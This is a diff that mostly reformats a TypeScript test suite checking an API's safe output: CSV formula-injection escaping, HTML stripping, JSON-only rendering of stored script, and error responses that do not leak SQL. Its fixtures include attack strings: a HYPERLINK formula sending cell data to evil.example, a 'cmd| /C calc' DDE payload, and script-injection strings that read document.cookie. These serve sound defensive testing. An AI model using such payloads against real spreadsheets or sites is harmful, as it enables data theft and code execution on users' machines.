@@ -13,7 +13,7 @@ import { MODES, openTestDatabase, type TestDatabase } from '../support/test-data
 const FORMULA_NAMES = [
   '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
   '+SUM(1,2)',
-  '-2+3+cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
   '@SUM(1,2)',
   '\uFF1D1+1',
   '\uFF0B1+1',
@@ -30,7 +30,10 @@ const CLIENT_DIST = path.resolve('dist/client');
 const HAS_CLIENT = fs.existsSync(path.join(CLIENT_DIST, 'index.html'));
 
 function parseCsv(text: string): Record<string, string>[] {
-  return parse(text, { bom: true, columns: true, skip_empty_lines: true, relax_column_count: false }) as Record<string, string>[];
+  return parse(text, { bom: true, columns: true, skip_empty_lines: true, relax_column_count: false }) as Record<
+    string,
+    string
+  >[];
 }
 
 /** The directives of a Content-Security-Policy header. */
@@ -52,17 +55,32 @@ describe.each(MODES)('safe output on %s', (mode) => {
     t = await openTestDatabase(mode);
     // Provincial points a few metres apart near Fredericton, and one federal point beside the first (a co-location pair).
     const rows = [...FORMULA_NAMES, PLAIN_NAME, 'Tab office', 'CR office'].map((name, i) => [
-      `P${i}`, name, `${i + 1} Queen St`, 'Fredericton', 'NB', (ORIGIN.lat + i * 0.0001).toFixed(5), (ORIGIN.lon - i * 0.0001).toFixed(5),
+      `P${i}`,
+      name,
+      `${i + 1} Queen St`,
+      'Fredericton',
+      'NB',
+      (ORIGIN.lat + i * 0.0001).toFixed(5),
+      (ORIGIN.lon - i * 0.0001).toFixed(5),
     ]);
     const prov = writeCsv(path.join(dir, 'prov.csv'), header, rows);
-    const p = await importFeedFile(t.db, feedSpec('safe-prov', 'ca-nb'), prov, { originalName: 'prov.csv', publish: true });
+    const p = await importFeedFile(t.db, feedSpec('safe-prov', 'ca-nb'), prov, {
+      originalName: 'prov.csv',
+      publish: true,
+    });
     expect(p.status).toBe('published');
     expect(p.report.accepted).toBe(rows.length);
-    const fed = writeCsv(path.join(dir, 'fed.csv'), header, [['F1', '=FED()', '1 Queen St', 'Fredericton', 'NB', ORIGIN.lat.toFixed(5), ORIGIN.lon.toFixed(5)]]);
+    const fed = writeCsv(path.join(dir, 'fed.csv'), header, [
+      ['F1', '=FED()', '1 Queen St', 'Fredericton', 'NB', ORIGIN.lat.toFixed(5), ORIGIN.lon.toFixed(5)],
+    ]);
     const f = await importFeedFile(t.db, feedSpec('safe-fed', 'ca'), fed, { originalName: 'fed.csv', publish: true });
     expect(f.status).toBe('published');
-    await t.db.query("UPDATE service_points SET name_en = $1 WHERE feed_id = 'safe-prov' AND name_en = 'Tab office'", [TAB_NAME]);
-    await t.db.query("UPDATE service_points SET name_en = $1 WHERE feed_id = 'safe-prov' AND name_en = 'CR office'", [CR_NAME]);
+    await t.db.query("UPDATE service_points SET name_en = $1 WHERE feed_id = 'safe-prov' AND name_en = 'Tab office'", [
+      TAB_NAME,
+    ]);
+    await t.db.query("UPDATE service_points SET name_en = $1 WHERE feed_id = 'safe-prov' AND name_en = 'CR office'", [
+      CR_NAME,
+    ]);
   }, 120_000);
   afterAll(async () => {
     await t?.cleanup();
@@ -77,7 +95,11 @@ describe.each(MODES)('safe output on %s', (mode) => {
       expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
       expect(res.text.startsWith('\uFEFF')).toBe(true);
       const rows = parseCsv(res.text);
-      const json = (await request(testApp(t.db)).get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}&limit=20&jurisdiction=ca-nb`).expect(200)).body as {
+      const json = (
+        await request(testApp(t.db))
+          .get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}&limit=20&jurisdiction=ca-nb`)
+          .expect(200)
+      ).body as {
         results: { id: string; name: string; lon: number; lat: number; distance_m: number }[];
       };
       expect(rows).toHaveLength(json.results.length);
@@ -123,11 +145,14 @@ describe.each(MODES)('safe output on %s', (mode) => {
       expect(res.text.startsWith('\uFEFF')).toBe(true);
       const rows = parseCsv(res.text);
       expect(rows.length).toBeGreaterThan(0);
-      const pair = rows.find((r) => r['b.id'] !== undefined && r['a.name'] === "'=FED()" && r['b.name'] === `'${FORMULA_NAMES[0]}`);
+      const pair = rows.find(
+        (r) => r['b.id'] !== undefined && r['a.name'] === "'=FED()" && r['b.name'] === `'${FORMULA_NAMES[0]}`,
+      );
       expect(pair, JSON.stringify(rows.slice(0, 3))).toBeDefined();
       for (const r of rows) {
         expect(r['a.name']!.startsWith("'")).toBe(true);
-        for (const col of ['a.lon', 'a.lat', 'b.lon', 'b.lat', 'lon', 'lat', 'distance_m']) expect(r[col], col).toMatch(/^-?\d+(\.\d+)?(e-?\d+)?$/i);
+        for (const col of ['a.lon', 'a.lat', 'b.lon', 'b.lat', 'lon', 'lat', 'distance_m'])
+          expect(r[col], col).toMatch(/^-?\d+(\.\d+)?(e-?\d+)?$/i);
         expect(Number(r['a.lon'])).toBeLessThan(0);
       }
     });
@@ -139,7 +164,10 @@ describe.each(MODES)('safe output on %s', (mode) => {
         ['H1', '<script>alert("x")</script>Centre <b>Alpha</b>', '1 Main St', 'Moncton', 'NB', '46.0878', '-64.7782'],
         ['H2', 'Centre <script src=x & "y" \'z\'', '2 Main St', 'Moncton', 'NB', '46.0879', '-64.7783'],
       ]);
-      const r = await importFeedFile(t.db, feedSpec('safe-html', 'ca-nb'), file, { originalName: 'html.csv', publish: true });
+      const r = await importFeedFile(t.db, feedSpec('safe-html', 'ca-nb'), file, {
+        originalName: 'html.csv',
+        publish: true,
+      });
       expect(r.status).toBe('published');
       expect(r.report.accepted).toBe(2);
       const html = r.report.issues.filter((i) => i.code === 'html_removed');
@@ -159,7 +187,11 @@ describe.each(MODES)('safe output on %s', (mode) => {
 
     it('a <script> stored by any route comes back unchanged inside a JSON string, never as text/html', async () => {
       const script = '<script>alert(document.cookie)</script> & "Centre" </title>';
-      const id = (await t.db.query<{ id: string }>("SELECT id FROM service_points WHERE feed_id = 'safe-prov' AND name_en = $1", [PLAIN_NAME])).rows[0]!.id;
+      const id = (
+        await t.db.query<{ id: string }>("SELECT id FROM service_points WHERE feed_id = 'safe-prov' AND name_en = $1", [
+          PLAIN_NAME,
+        ])
+      ).rows[0]!.id;
       await t.db.query('UPDATE service_points SET name_fr = $2 WHERE id = $1', [id, script]);
       const res = await request(testApp(t.db)).get(`/api/service-points/${id}?lang=fr`).expect(200);
       expect(res.headers['content-type']).toMatch(/^application\/json/);
@@ -169,9 +201,13 @@ describe.each(MODES)('safe output on %s', (mode) => {
       // Neither escaped to entities nor stripped: JSON.parse of the raw body gives the stored text back.
       expect(res.text).not.toContain('&lt;');
       expect((JSON.parse(res.text) as { name: string }).name).toBe(script);
-      const list = await request(testApp(t.db)).get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}&limit=20&lang=fr&format=geojson`).expect(200);
+      const list = await request(testApp(t.db))
+        .get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}&limit=20&lang=fr&format=geojson`)
+        .expect(200);
       expect(list.headers['content-type']).toMatch(/^application\/geo\+json/);
-      const feature = (list.body as { features: { id: string; properties: { name: string } }[] }).features.find((x) => x.id === id);
+      const feature = (list.body as { features: { id: string; properties: { name: string } }[] }).features.find(
+        (x) => x.id === id,
+      );
       expect(feature?.properties.name).toBe(script);
     });
   });
@@ -251,37 +287,61 @@ describe.each(MODES)('safe output on %s', (mode) => {
         }
         throw new Error('the renamed column should have failed');
       });
-      const res = await request(testApp(db, undefined, undefined, { NEAREST_INDEX_MAX_POINTS: 0 })).get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}`).expect(500);
+      const res = await request(testApp(db, undefined, undefined, { NEAREST_INDEX_MAX_POINTS: 0 }))
+        .get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}`)
+        .expect(500);
       expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
-      expect(res.body).toMatchObject({ status: 500, type: expect.stringContaining('#internal'), title: 'Internal server error' });
+      expect(res.body).toMatchObject({
+        status: 500,
+        type: expect.stringContaining('#internal'),
+        title: 'Internal server error',
+      });
       expect(typeof res.body.detail).toBe('string');
       // The driver's error did name the column: the handler, not luck, kept it out of the response.
       expect(driverError).not.toBeNull();
       expect(String(driverError!.message)).toContain('secret_lon_column');
       expectNoLeak(res.text, ['secret_lon_column', 'does not exist', '42703']);
-      const fr = await request(testApp(db, undefined, undefined, { NEAREST_INDEX_MAX_POINTS: 0 })).get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}&lang=fr`).expect(500);
+      const fr = await request(testApp(db, undefined, undefined, { NEAREST_INDEX_MAX_POINTS: 0 }))
+        .get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}&lang=fr`)
+        .expect(500);
       expect(fr.body.title).toBe('Erreur interne du serveur');
     });
 
     it('an error whose message, query and hint carry SQL is rendered without them', async () => {
       const db = failingNearest(() => {
         const err = Object.assign(new Error(`syntax error at or near "secret_column" in ${SQL}`), {
-          code: '42601', query: SQL, hint: `Try ${SQL}`, where: 'PL/pgSQL function secret_fn() line 3',
+          code: '42601',
+          query: SQL,
+          hint: `Try ${SQL}`,
+          where: 'PL/pgSQL function secret_fn() line 3',
         });
         return Promise.reject(err);
       });
-      const res = await request(testApp(db, undefined, undefined, { NEAREST_INDEX_MAX_POINTS: 0 })).get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}&format=csv`).expect(500);
+      const res = await request(testApp(db, undefined, undefined, { NEAREST_INDEX_MAX_POINTS: 0 }))
+        .get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}&format=csv`)
+        .expect(500);
       expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
-      expect(res.body).toMatchObject({ status: 500, type: expect.any(String), title: expect.any(String), detail: expect.any(String) });
+      expect(res.body).toMatchObject({
+        status: 500,
+        type: expect.any(String),
+        title: expect.any(String),
+        detail: expect.any(String),
+      });
       expect(Object.keys(res.body).sort()).toEqual(['detail', 'status', 'title', 'type']);
       expectNoLeak(res.text, ['secret_column', 'secret_fn', '42601', 'syntax error']);
     });
 
     it('a database that drops the connection is a 503 with Retry-After, still without internals', async () => {
       const db = failingNearest(() =>
-        Promise.reject(Object.assign(new Error(`connect ECONNREFUSED 127.0.0.1:5432 while running ${SQL}`), { code: 'ECONNREFUSED' })),
+        Promise.reject(
+          Object.assign(new Error(`connect ECONNREFUSED 127.0.0.1:5432 while running ${SQL}`), {
+            code: 'ECONNREFUSED',
+          }),
+        ),
       );
-      const res = await request(testApp(db, undefined, undefined, { NEAREST_INDEX_MAX_POINTS: 0 })).get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}`).expect(503);
+      const res = await request(testApp(db, undefined, undefined, { NEAREST_INDEX_MAX_POINTS: 0 }))
+        .get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}`)
+        .expect(503);
       expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
       expect(res.headers['retry-after']).toBe('5');
       expect(res.body).toMatchObject({ status: 503, type: expect.stringContaining('#unavailable') });
